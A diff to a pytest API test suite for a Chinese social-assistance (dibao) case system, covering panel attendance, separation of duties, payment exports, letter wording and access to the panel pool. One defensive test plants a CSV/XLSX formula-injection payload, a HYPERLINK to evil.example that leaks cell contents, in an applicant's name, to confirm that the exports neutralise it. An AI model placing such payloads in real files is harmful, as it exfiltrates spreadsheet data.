@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import timedelta
 
 import pytest
@@ -101,14 +102,36 @@ def economic_check(api, case_id, result="eligible", days=3, username="wenping_in
         "result": result}))
 
 
-PANEL = {"held_on": None, "members_present": 9, "cadres_present": 2,
-         "is_group_leader_present": True, "opinion": "同意", "are_signatures_complete": True}
+SIGNED = {"kind": "scan", "sha256": "c" * 64}  # a photo of the signed sheet
+
+
+def held(api, case_id, username="wenping_reviewer", absent_roles=(), held_on=None):
+    """The panel's record as held (004): the case's panel drawn (its village given a pool of
+    30 first when it has none), every drawn member present and signed on screen, but every
+    drawn member of each of ``absent_roles`` absent with a reason (the seeded draw may seat a
+    third cadre or a second group leader, who must not mask the broken rule)."""
+    drawn = ok(api.get(username, f"/api/cases/{case_id}/panel-draw"))
+    if not drawn["seed"]:
+        village = ok(api.get(username, f"/api/cases/{case_id}"))["jurisdiction_code"]
+        if len(ok(api.get("wenping_intake",
+                          f"/api/villages/{village}/panel-pool"))["items"]) < 30:
+            ok(api.put("wenping_intake", f"/api/villages/{village}/panel-pool",
+                       json={"members": pool_members()}))
+        drawn = ok(api.post(username, f"/api/cases/{case_id}/panel-draw", json={},
+                            headers={"If-Match": f'"{wf(api, case_id, username)["version"]}"'}),
+                   201)
+    attendance = {m["id"]: {"status": "present", "signature": SIGNED}
+                  for m in drawn["members"]}
+    for member in drawn["members"]:
+        if member["role"] in absent_roles:
+            attendance[member["id"]] = {"status": "absent", "reason": "外出务工"}
+    return {"held_on": held_on or clock.today_in_china().isoformat(),
+            "attendance": attendance, "opinion": "同意"}
 
 
 def to_reviewing(api, case_id, income="300", username="wenping_reviewer"):
     ok(move(api, case_id, "panel_review", username))
-    panel = {**PANEL, "held_on": clock.today_in_china().isoformat()}
-    return move(api, case_id, "reviewing", username, panel=panel,
+    return move(api, case_id, "reviewing", username, panel=held(api, case_id, username),
                 proposal={"per_capita_income_yuan": income})
 
 
@@ -172,6 +195,10 @@ def test_dibao_from_application_through_objection_to_approval(api, db_session):
                      ("reviewing", "public_notice"), ("public_notice", "approved")]
     assert timeline[-1]["actor_name"] and timeline[-1]["at"]
     assert "device_id" in timeline[-1]
+    # Issue 21: the assignment names the investigators (it read "指派调查员 · —").
+    assigned = [i for i in timeline if i["action"] == "case.team_assigned"]
+    assert assigned and all(len(i["team_names"]) >= 2 for i in assigned)
+    assert not any(name.count("-") == 4 for i in assigned for name in i["team_names"])
 
 
 def test_one_audit_row_per_step_and_version_bumps(api, db_session):
@@ -225,7 +252,7 @@ def test_wrong_role_is_403(api, db_session):
             "forbidden")
 
 
-# --- separation of duties (001) ---------------------------------------------------------------
+# --- separation of duties (001); every path: tests/api/test_duties.py ------------------------
 
 
 def _multi_role_user(db_session, roles_list, township=WENPING):
@@ -248,12 +275,13 @@ def test_separation_of_duties_matrix_001(api, db_session, first, second):
     complete_visit(api, case)
     economic_check(api, case["id"], username="wenping_intake")
     reviewer = me if "preliminary_review" in (first, second) else "wenping_reviewer"
-    reviewed = to_reviewing(api, case["id"], username=reviewer)
     if second == "preliminary_review":
-        body = problem(reviewed, 422, "separation-of-duties")
+        # Moving into the panel review is already preliminary review (issue 19).
+        body = problem(move(api, case["id"], "panel_review", reviewer), 422,
+                       "separation-of-duties")
         assert body["rule"] == "001" and body["done"] == "intake"
         return
-    ok(reviewed)
+    ok(to_reviewing(api, case["id"], username=reviewer))
     ok(move(api, case["id"], "public_notice", "wenping_reviewer"))
     later(days=7)
     draw_and_check(api, case["id"])
@@ -306,7 +334,7 @@ def test_preliminary_review_needs_the_visit_and_the_check(api, db_session):
                 json={"to": "approved", "comments": []},
                 headers={"If-Match": f'"{review["version"]}"'}))
     ok(move(api, case["id"], "panel_review", "wenping_reviewer"))
-    panel = {**PANEL, "held_on": clock.today_in_china().isoformat()}
+    panel = held(api, case["id"])
     problem(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
                  proposal={"per_capita_income_yuan": "100"}), 422, "economic-check-pending")
     economic_check(api, case["id"], result="obviously_ineligible")
@@ -316,19 +344,22 @@ def test_preliminary_review_needs_the_visit_and_the_check(api, db_session):
     assert letter["economic_check"]["result"] == "obviously_ineligible"
 
 
-@pytest.mark.parametrize("change,slug", [
-    ({"members_present": 8}, "panel-too-small"),
-    ({"cadres_present": 1}, "panel-cadres-missing"),
-    ({"is_group_leader_present": False}, "panel-group-leader-missing"),
+@pytest.mark.parametrize("absent,slug", [
+    ("villager", "panel-too-small"),
+    ("township_cadre", "panel-cadres-missing"),
+    ("group_leader", "panel-group-leader-missing"),
 ])
-def test_panel_guards_004(api, db_session, change, slug):
+def test_panel_guards_004(api, db_session, absent, slug):
+    """The counts come from the drawn members' attendance (issue 19), never typed: the drawn
+    members of one role absent break the rule their seats carry (whichever seed was drawn)."""
     case = investigating(api, db_session)
     complete_visit(api, case)
     economic_check(api, case["id"])
     ok(move(api, case["id"], "panel_review", "wenping_reviewer"))
-    panel = {**PANEL, "held_on": clock.today_in_china().isoformat(), **change}
-    problem(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
-                 proposal={"per_capita_income_yuan": "100"}), 422, slug)
+    panel = held(api, case["id"], absent_roles=[absent])
+    refused = move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
+                   proposal={"per_capita_income_yuan": "100"})
+    assert refused.status_code == 422 and slug in refused.get_json()["rules"]
     problem(move(api, case["id"], "reviewing", "wenping_reviewer",
                  proposal={"per_capita_income_yuan": "100"}), 422, "panel-record-missing")
 
@@ -346,7 +377,7 @@ def test_proposal_above_the_margin_is_422(api, db_session):
     complete_visit(api, case)
     economic_check(api, case["id"])
     ok(move(api, case["id"], "panel_review", "wenping_reviewer"))
-    panel = {**PANEL, "held_on": clock.today_in_china().isoformat()}
+    panel = held(api, case["id"])
     problem(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
                  proposal={"per_capita_income_yuan": "1020"}), 422, "proposal-invalid")
     view = ok(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
@@ -413,6 +444,12 @@ def test_a_case_taken_in_after_the_draw_is_listed_for_a_follow_up_draw_001(api, 
     assert first["id"] not in to_draw()
     later_case = create_case(api, db_session)  # taken in after the month's draw
     assert later_case["id"] in to_draw()
+    # Issue 21: the task names the month whose draw missed it (the desk said 本月) and the
+    # county's list says which township each case is in.
+    item = next(i for i in ok(api.get("county_supervisor", "/api/cases/due"))["items"]
+                if i["case_id"] == later_case["id"] and i["task"] == "spot_check_draw")
+    assert item["intake_month"] == month
+    assert item["township_name"] and not item["township_name"].isdigit()
     assert "spot_check_draw" not in {i["task"] for i in ok(
         api.get("wenping_intake", "/api/cases/due"))["items"]}
     follow_up = ok(api.post("county_supervisor", "/api/spot-checks/draws",
@@ -455,6 +492,24 @@ def test_emergency_cap_follows_a_stricter_setting_002(api, db_session):
     problem(move(api, case["id"], "approved", "wenping_approver", emergency={
         "recipient_name": "王", "reason": "急病", "amount_yuan": "3000.01"}), 422,
         "amount-above-cap")
+
+
+@pytest.mark.parametrize("to", ["refused", "stopped"])
+def test_reasons_that_would_disclose_a_phone_or_id_are_refused_at_once(api, db_session, to):
+    """Issue 20: reasons naming a phone number were accepted, and the letter could then
+    never print (422 document-discloses-identity, reasons not editable). The letter's own
+    check now runs when the reasons are given."""
+    case = noticed(api, db_session) if to == "stopped" else investigating(api, db_session)
+    if to == "stopped":
+        later(days=7)
+        draw_and_check(api, case["id"])
+        ok(move(api, case["id"], "approved", "wenping_approver"))
+    for leak in ("申请人电话 139 1234 5678 可联系", "身份证 53062119560309022X 信息不符"):
+        body = problem(move(api, case["id"], to, "wenping_approver",
+                            reasons=["家庭人均收入高于当地低保标准", leak]), 422,
+                       "document-discloses-identity")
+        assert list(body["errors"]) == ["reasons.1"], body
+    assert wf(api, case["id"])["status"] != to
 
 
 def test_refusal_letter_due_within_3_working_days_57(api, db_session):
@@ -515,10 +570,60 @@ def test_payment_list_next_month_with_masked_columns_csv_and_xlsx(api, db_sessio
     text = api.get("wenping_approver", f"/api/payments?month={month}&format=csv")
     assert text.mimetype == "text/csv"
     rows = list(csv.DictReader(io.StringIO(text.get_data(as_text=True).lstrip("\ufeff"))))
-    assert any(r["case_id"] == case["id"] for r in rows)
+    # Issue 21: Chinese headers and categories, the case by its number (no slug, no UUID).
+    row = next(r for r in rows if r["受理编号"] == view["case"]["case_no"])
+    assert row["救助类别"] == "最低生活保障" and row["收款人"]
     xlsx = api.get("wenping_approver", f"/api/payments?month={month}&format=xlsx")
     assert xlsx.data[:2] == b"PK"
+    english = api.get("wenping_approver", f"/api/payments?month={month}&format=csv&lang=en")
+    assert english.get_data(as_text=True).lstrip("\ufeff").startswith("No.,Payee,")
     problem(api.get("wenping_fw1", f"/api/payments?month={month}"), 403, "forbidden")
+
+
+def test_payment_files_defuse_formulas_in_names(api, db_session):
+    """Issue 20: a head of household named like a formula reached the payment CSV as it was
+    and was a live `<f>` formula in the XLSX."""
+    import openpyxl
+
+    from backend.households.models import Member
+
+    case = noticed(api, db_session)
+    later(days=7)
+    draw_and_check(api, case["id"])
+    month = ok(move(api, case["id"], "approved", "wenping_approver",
+                    bank_account="6222020200112233445"))["decision"]["payment_starts_on"][:7]
+    head = db_session.scalars(select(Member).where(
+        Member.household_id == case["household_id"],
+        Member.relation == "head")).one()
+    for lead in ("=", "+", "-", "@", "\t", "\r"):
+        name = lead + 'HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
+        head.name = name
+        db_session.flush()
+        text = api.get("wenping_approver", f"/api/payments?month={month}&format=csv")
+        rows = list(csv.DictReader(io.StringIO(text.get_data(as_text=True).lstrip("\ufeff"))))
+        assert next(r for r in rows if r["受理编号"] == case["case_no"])["收款人"] == "'" + name
+        xlsx = api.get("wenping_approver", f"/api/payments?month={month}&format=xlsx")
+        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).worksheets[0]
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        # OOXML writes a carriage return as `_x000D_` (Excel decodes it, openpyxl does not).
+        assert name.replace("\r", "_x000D_") in [c.value for c in cells]
+
+
+def test_the_panel_pool_is_read_only_by_the_staff_who_keep_or_use_it(api, db_session):
+    """Issue 20: any signed-in caller, a recipient too, read the names of a village's
+    deliberation pool."""
+    from tests.api.test_checkins import activated, approved_households
+
+    village = household_of_township(db_session, WENPING).jurisdiction_code
+    path = f"/api/villages/{village}/panel-pool"
+    for username in ("wenping_intake", "wenping_admin", "wenping_reviewer", "wenping_approver",
+                     "county_supervisor"):
+        assert api.get(username, path).status_code == 200, username
+    for username in ("wenping_fw1", "wenping_assistant"):
+        problem(api.get(username, path), 403, "forbidden")
+    recipient = activated(api, approved_households(db_session)[0])
+    problem(api.get(recipient.name, path), 403, "forbidden")
 
 
 def test_allowance_standard_by_date_drives_the_amount(api, db_session):
@@ -615,6 +720,26 @@ def test_refusal_letter_and_missing_documents_notice_print(api, db_session):
     assert "家庭人均收入高于当地标准" in text and "复查" in text
     for member in case["household"]["members"]:
         assert (member.get("id_number") or "none") not in text
+    assert_fit_to_send(text, case)
+
+
+def assert_fit_to_send(text: str, case: dict) -> None:
+    """A letter to an applicant: one sentence on re-examination, one word for it (复查, 002),
+    in Chinese only: no Latin letter but in the case number."""
+    flat = re.sub(r"\s+", "", text)
+    assert flat.count("如对本决定有异议") == 1 and flat.count("申请复查") == 1
+    assert "复核" not in flat
+    assert re.findall(r"[A-Za-z]+", flat.replace(case["id"], "")) == []
+
+
+def test_the_obviously_ineligible_letter_is_chinese_with_one_route_to_reexamination(
+        api, db_session):  # 002
+    case = create_case(api, db_session)
+    economic_check(api, case["id"], result="obviously_ineligible")
+    text = pdf_text(api.get("wenping_intake",
+                            f"/api/cases/{case['id']}/documents/refusal_letter"))
+    assert "家庭经济状况核对结果明显不符合条件" in text
+    assert_fit_to_send(text, case)
 
 
 # --- panel pool and seeded draw (004, 001) ------------------------------------------------------
